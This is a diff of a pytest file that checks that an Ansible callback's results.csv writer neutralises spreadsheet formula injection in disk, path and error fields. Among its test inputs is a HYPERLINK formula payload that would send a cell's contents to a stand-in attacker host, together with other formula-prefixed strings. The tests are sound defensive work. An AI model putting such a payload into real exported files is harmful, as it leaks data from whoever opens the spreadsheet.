@@ -6,18 +6,20 @@ begins with = + - @ TAB or CR (or with the ' that marks such a field) is written
 numbers the records carry (figures, seconds, bytes) are written as numbers, negative ones too.
 
 Model, serial and device strings come from the disks themselves, paths and errors from hosts and
-tools: any of them can be '=HYPERLINK(...)'. Checked on the writer the callback uses (CsvLines:
-csv.writer of _csv_row), field by field, and end to end through a real
-ansible-playbook run with the callback enabled.
+tools: any of them can be '=HYPERLINK(...)'. Checked on the pipeline's writer (plugin_utils/_report.py
+CsvLines: csv.writer of csv_row), field by field, and end to end through a real ansible-playbook run with
+the callback enabled.
 """
 from __future__ import annotations
 
 import csv
-import importlib
 import io
 import sys
 
 import pytest
+
+from ansible_collections.diskproof.fleet.plugins.plugin_utils import _aggregate as aggregate
+from ansible_collections.diskproof.fleet.plugins.plugin_utils import _report
 
 GIB = 2 ** 30
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
@@ -27,13 +29,6 @@ PATH = "+/srv/d0"
 ERROR = "\r=1+1"
 QUOTED = "'=already quoted by someone"
 TAB_SERIAL = "\t=1+1"
-
-
-@pytest.fixture(scope="module")
-def report_module(collections_path):
-    if str(collections_path) not in sys.path:
-        sys.path.insert(0, str(collections_path))
-    return importlib.import_module("ansible_collections.diskproof.fleet.plugins.callback.report")
 
 
 def _record(path, device, serial, model, rate, seconds=12.5, error=None):
@@ -47,7 +42,7 @@ def _record(path, device, serial, model, rate, seconds=12.5, error=None):
     }
 
 
-def _entries(aggregate):
+def _entries():
     records = {
         "h1": [_record(PATH, DEVICE, "S1", FORMULA, 200e6),
                _record("/srv/d1", "sdc", DDE, "M 1", 190e6, seconds=-1.0)],
@@ -95,11 +90,9 @@ def _is_number(field):
     return True
 
 
-def test_results_csv_lines_neutralise_formula_text(report_module):
-    aggregate = report_module._aggregate
-    entries = _entries(aggregate)
-    lines = report_module.CsvLines()
-    text = "".join(lines.line(entry, aggregate.entry_reason(entry)) for entry in entries)
+def test_results_csv_lines_neutralise_formula_text():
+    lines = _report.CsvLines()
+    text = "".join(lines.line(entry) for entry in _entries())
     _check_rows(_rows(text))
 
 
@@ -109,10 +102,10 @@ def test_results_csv_lines_neutralise_formula_text(report_module):
     ("'=x", "''=x"), ("'plain", "''plain"), ("a=b", "a=b"), (" =x", " =x"), ("", ""),
     (-1.5, "-1.5"), (-3, "-3"), (float("-inf"), "-inf"), (None, ""), (True, "True"),
 ])
-def test_csv_field_rule(report_module, value, written):
+def test_csv_field_rule(value, written):
     """The field as results.csv holds it, here in the reason column of a host problem's row."""
-    entry = report_module._aggregate.Entry("h", None, None, "pass", (("pass", "r"),), (), None, None, None, None, None, None)
-    assert report_module.CsvLines().line(entry, value) == "h,,,,,pass,%s,,,,,,,,,\n" % written
+    entry = aggregate.Entry("h", None, None, "pass", (("pass", value),), (), None, None, None, None, None, None)
+    assert _report.CsvLines().line(entry) == "h,,,,,pass,%s,,,,,,,,,\n" % written
 
 
 def test_results_csv_of_a_real_run_is_neutralised(playbook_runner, tmp_path):
